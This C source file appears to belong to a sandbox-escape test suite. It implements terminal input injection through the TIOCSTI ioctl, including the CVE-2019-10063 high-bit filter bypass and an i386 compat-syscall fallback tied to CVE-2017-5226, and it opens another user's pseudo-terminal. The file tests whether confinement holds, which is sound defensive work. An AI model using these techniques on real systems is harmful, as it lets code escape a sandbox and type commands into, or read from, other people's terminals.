/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * terminals.c - terminals shared with the outside: U10.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include "attacks.h"

/* By number; with a bit above the 32 looked at (CVE-2019-10063); from i386. */
static int
push(int fd, const char *p)
{
	if (ioctl(fd, TIOCSTI, p) == 0 ||
	    ioctl(fd, TIOCSTI | 1UL << 32, p) == 0)
		return 0;
	return compat_call(I386_IOCTL, fd, TIOCSTI, (long)p, 0);
}

/*
 * CVE-2017-5226: what is pushed back is read by whoever reads the terminal
 * next.  Whether that was somebody outside is seen outside, by owner.c.
 */
int
push_input(const struct target *t)
{
	int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);

	(void)t;
	if (fd < 0)
		fd = STDIN_FILENO;
	for (const char *p = PUSHED; *p; p++)
		if (push(fd, p) < 0)
			return -1;
	return 0;
}

/* Opened, its keys can be read and its screen written to. */
int
other_terminal(const struct target *t)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/dev/pts/%d", t->pts);
	fd = open(path, O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	errno = EBADMSG;
	return isatty(fd) ? 0 : -1;
}
